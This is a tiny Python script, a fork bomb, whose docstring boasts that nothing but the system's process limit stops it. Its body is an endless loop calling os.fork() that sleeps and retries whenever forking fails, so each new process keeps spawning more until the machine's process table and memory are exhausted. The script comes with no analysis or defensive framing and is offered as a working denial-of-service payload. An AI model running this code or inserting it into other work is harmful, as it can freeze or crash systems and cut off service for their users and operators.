"""A process for each process: nothing but the limit stops it, and it does not listen."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1)
